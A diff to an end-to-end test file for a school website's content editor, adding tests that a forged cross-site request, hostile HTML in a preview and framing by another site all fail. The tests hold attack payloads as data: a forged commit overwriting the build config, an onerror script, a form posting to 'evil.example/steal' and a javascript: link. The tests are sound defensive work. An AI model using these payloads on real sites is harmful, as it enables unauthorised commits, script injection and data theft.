@@ -6,11 +6,13 @@
  * check the commit, the file, and the rebuilt site's class page and RSS feed. The same for an Urdu
  * translation of a policy, named after the English original chosen in the form, which the rebuilt
  * site publishes at /ur/… with the English page linking to it. Also: what the editor cannot save,
- * the guard against committing someone's unfinished work, and the login of each production Git host.
+ * the guard against committing someone's unfinished work, another site's page that tries to save
+ * through the local backend, a preview that runs nothing in a body's HTML, no editor inside another
+ * site's frame, and the login of each production Git host.
  */
 import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
 import { cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
-import { createServer } from 'node:net';
+import { createServer } from 'node:http';
 import { tmpdir } from 'node:os';
 import { join, resolve } from 'node:path';
 import { XMLParser } from 'fast-xml-parser';
@@ -21,6 +23,7 @@ import { checkContent } from '../../src/lib/content-check';
 import { parseMarkdownFile } from '../../src/lib/frontmatter';
 import { classUpdateSchema } from '../../src/schemas/class-update';
 import { launchBrowser } from '../helpers/browser';
+import { freePort, gitIn } from '../helpers/local';
 import { serve } from '../helpers/serve';
 import { mainOf, textOf } from '../helpers/build';
 
@@ -54,21 +57,7 @@ let page: Page;
 let today: string;
 const violations: string[] = [];
 
-function git(...args: string[]): string {
-  const r = spawnSync('git', args, { cwd: repo, encoding: 'utf8' });
-  if (r.status !== 0) throw new Error(`git ${args.join(' ')}: ${r.stderr}`);
-  return r.stdout.trim();
-}
-
-function freePort(): Promise<number> {
-  return new Promise((done) => {
-    const s = createServer();
-    s.listen(0, '127.0.0.1', () => {
-      const { port } = s.address() as { port: number };
-      s.close(() => done(port));
-    });
-  });
-}
+const git = (...args: string[]) => gitIn(repo, ...args);
 
 /** A copy of the working tree (with this branch's uncommitted work) as a fresh Git repository. */
 function copyRepository(): string {
@@ -354,6 +343,64 @@ describe('editing with the CMS', () => {
     expect(check.problems.filter((p) => p.file.endsWith(`policies/${lang}/${original}.md`))).toEqual([]);
   });
 
+  it('cannot be driven by another site’s page open in the same browser: its forged draft is refused', async () => {
+    const head = git('rev-parse', 'HEAD');
+    const drafts = git('branch', '--list', 'cms/*');
+    const attacker = await attackerSite('<!doctype html><title>Free worksheets</title><p>Free worksheets</p>');
+    const evil = await context.newPage();
+    await evil.goto(attacker.url);
+    const forged = {
+      action: 'persistEntry',
+      params: {
+        branch: 'main',
+        dataFiles: [{ slug: '2026-11-30-forged', path: 'content/newsletters/2026-11-30-forged.md', raw: '---\ntitle: Forged\n---\n' }],
+        assets: [{ path: 'astro.config.mjs', content: Buffer.from('throw new Error("attacker")').toString('base64'), encoding: 'base64' }],
+        options: { collectionName: 'newsletters', commitMessage: 'Create Newsletter', useWorkflow: true, status: 'draft' },
+      },
+    };
+    // As the attack was made: a text/plain body needs no permission, and no-cors hides the answer.
+    await evil.evaluate(async ({ url, body }) => void (await fetch(url, { method: 'POST', mode: 'no-cors', body })), { url: backendUrl, body: JSON.stringify(forged) });
+    await evil.close();
+    await attacker.close();
+    expect(git('branch', '--list', 'cms/*')).toBe(drafts);
+    expect(git('log', '--all', '--format=%s %H', '--', 'astro.config.mjs', 'content/newsletters/2026-11-30-forged.md').split('\n')).toHaveLength(1);
+    expect(git('rev-parse', 'HEAD')).toBe(head);
+    expect(serverLog).toContain(`it came from a page at ${attacker.url.replace(/\/$/, '')}, not from the editor`);
+  });
+
+  it('previews a body’s HTML without running it: no event handler, form or javascript: link', async () => {
+    const p = await context.newPage();
+    p.on('dialog', (d) => void d.accept());
+    await p.goto(`${site}/admin/#/collections/newsletters/new`);
+    // Decap's mode switch has no name of its own: it sits between the words "Rich Text" and "Markdown".
+    const markdownMode = p.locator('div:has(> span:text-is("Markdown")) > [role=switch]');
+    await markdownMode.waitFor();
+    await markdownMode.click();
+    await p.locator('[role=textbox][contenteditable=true]').click();
+    for (const line of [
+      'Hostile preview check',
+      '<img src="x" onerror="window.__previewRan = \'img\'; parent.__previewRan = \'img\'">',
+      '<form action="https://evil.example/steal"><input name="q" value="secret"><button>Send</button></form>',
+      '[Read more](javascript:parent.__previewRan=\'link\')',
+    ]) {
+      await p.keyboard.insertText(line);
+      await p.keyboard.press('Enter');
+      await p.keyboard.press('Enter');
+    }
+    const preview = p.frameLocator('#preview-pane');
+    await preview.getByText('Hostile preview check').waitFor();
+    await preview.getByText('Read more').waitFor();
+    expect(await preview.locator('[onerror]').count()).toBe(0);
+    expect(await preview.locator('form, input, button').count()).toBe(0);
+    expect(await preview.locator('[action*="evil.example"]').count()).toBe(0);
+    expect(await preview.locator('a[href]').evaluateAll((links) => links.map((a) => a.getAttribute('href')))).not.toContainEqual(expect.stringMatching(/^\s*javascript:/i));
+    await preview.getByText('Read more').click();
+    const frame = (await p.locator('#preview-pane').elementHandle())!.contentFrame();
+    expect(await (await frame)!.evaluate(() => (window as any).__previewRan)).toBeUndefined();
+    expect(await p.evaluate(() => (window as any).__previewRan)).toBeUndefined();
+    await p.close();
+  });
+
   it('caused no Content-Security-Policy violations but the development toolbar’s', async () => {
     const seen = (await page.evaluate(() => (window as any).__violations ?? [])) as string[];
     violations.push(...seen.filter((v) => v !== 'script-src-elem inline'));
@@ -509,7 +556,39 @@ describe('the site rebuilt for a school on GitLab', () => {
       await server.close();
     }
   });
+
+  it('does not start inside another site’s frame, where the host ignores _headers (no frame-ancestors)', async () => {
+    // serve() sends no headers of its own, as GitHub Pages or GitLab Pages would not send the site's _headers.
+    const server = await serve(out);
+    const attacker = await attackerSite(`<!doctype html><title>Prize draw</title><iframe src="${server.url}/admin/" width="1100" height="800"></iframe>`);
+    const p = await context.newPage();
+    try {
+      await p.goto(attacker.url);
+      const framed = p.frameLocator('iframe');
+      await framed.getByText('The editor does not open inside another website’s page').waitFor({ timeout: 60_000 });
+      expect(await framed.getByRole('link', { name: 'Open the editor on its own' }).getAttribute('href')).toBe('/admin/');
+      expect(await framed.getByRole('button', { name: /Login/ }).count()).toBe(0);
+      expect(await framed.locator('#nc-root').textContent()).not.toContain('Loading the editor');
+    } finally {
+      await p.close();
+      await attacker.close();
+      await server.close();
+    }
+  });
 });
+
+/**
+ * Another site's page, on this computer: Chromium asks before a page from the internet reaches a
+ * local address (Local Network Access) and other browsers do not, so the attacker's page is put
+ * on another port of this computer, which Chromium lets through: what stops it must be the site.
+ */
+async function attackerSite(html: string): Promise<{ url: string; close: () => Promise<void> }> {
+  const server = createServer((_req, res) => res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(html));
+  const port = await new Promise<number>((done) => server.listen(0, '127.0.0.1', () => done((server.address() as { port: number }).port)));
+  // localhost, not 127.0.0.1: another origin than every page of the site under test whatever its port.
+  // The browser keeps idle connections open: closed here, or close() would wait for them.
+  return { url: `http://localhost:${port}/`, close: () => new Promise((done) => server.close(() => done()).closeAllConnections()) };
+}
 
 /** Width and height from a JPEG's start-of-frame marker. */
 function jpegSize(bytes: Buffer): { width: number; height: number } {
